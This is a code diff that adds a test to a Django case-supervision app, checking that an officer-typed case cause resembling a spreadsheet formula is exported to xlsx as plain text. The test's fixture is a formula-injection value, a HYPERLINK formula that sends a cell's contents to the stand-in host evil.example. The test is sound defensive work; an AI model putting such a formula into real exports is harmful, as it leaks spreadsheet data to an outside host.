@@ -124,3 +124,18 @@ def test_section_index_routes_by_role(cases, people, client, run):
     client.force_login(run.world["users"]["chen"])
     assert client.get("/supervision/")["Location"].endswith("/supervision/alerts/")
     assert Case.objects.exists()
+
+
+def test_exported_text_that_looks_like_a_formula_is_written_as_text(cases, people, client):
+    """A case's cause is typed by an officer; in the supervisor's export it must not become a live formula."""
+    import zipfile
+
+    cause = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    Case.objects.filter(pk=cases["decided"].pk).update(cause=cause)
+    client.force_login(people["gz_sup"])
+    response = client.get(reverse("supervision:cases") + "?stage=decided&export=xlsx")
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    found = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == cause]
+    assert found and all(c.data_type == "s" for c in found)
